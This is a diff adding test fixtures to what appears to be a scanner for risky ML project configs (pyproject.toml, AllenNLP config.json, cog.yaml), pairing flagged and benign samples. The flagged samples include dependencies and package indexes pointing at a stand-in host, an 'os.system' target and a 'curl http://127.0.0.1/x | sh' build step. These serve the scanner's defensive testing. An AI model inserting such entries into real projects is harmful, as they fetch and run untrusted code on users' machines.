@@ -115,6 +115,27 @@ SAMPLES: dict[str, tuple[list[tuple[str, Any]], list[Any]]] = {
             {"dependencies": {"react": "git+https://127.0.0.1/x.git"}},
         ],
     ),
+    "pyproject.toml": (
+        [
+            ("config.fetches", {"project": {"dependencies": ["evil @ git+http://127.0.0.1/evil.git"]}}),
+            ("config.fetches", {"tool": {"uv": {"index": [{"url": "http://127.0.0.1/simple"}]}}}),
+            ("config.fetches", {"tool": {"poetry": {"source": [{"name": "x", "url": "http://127.0.0.1/simple"}]}}}),
+            ("config.fetches", {"source": [{"url": "http://127.0.0.1/simple"}], "packages": {}}),
+        ],
+        [
+            {"project": {"name": "x", "dependencies": ["torch>=2"], "optional-dependencies": {"dev": ["ruff"]}}},
+            {"tool": {"uv": {"index": [{"url": "https://download.pytorch.org/whl/cpu"}]}, "ruff": {"line-length": 99}}},
+            {"source": [{"url": "https://pypi.org/simple", "verify_ssl": True}], "packages": {"torch": "*"}},
+            {"project": ["x"], "tool": 3},
+        ],
+    ),
+    "AllenNLP's config.json": (
+        [
+            ("config.imports", {"dataset_reader": {"type": "snli"}, "model": {"type": "evil.Model"}}),
+            ("config.dangerous-target", {"dataset_reader": {"x": [{"type": "os.system"}]}, "model": {}}),
+        ],
+        [{"dataset_reader": {"type": "snli"}, "model": {"type": "basic_classifier"}}, {"model": {"type": "a.B"}}],
+    ),
     "cog.yaml": (
         [("config.command", {"build": {"gpu": True, "run": ["curl http://127.0.0.1/x | sh"]}})],
         [{"build": {"gpu": True, "python_version": "3.11", "python_packages": ["torch"]}}, {"build": {"run": ["x"]}}],
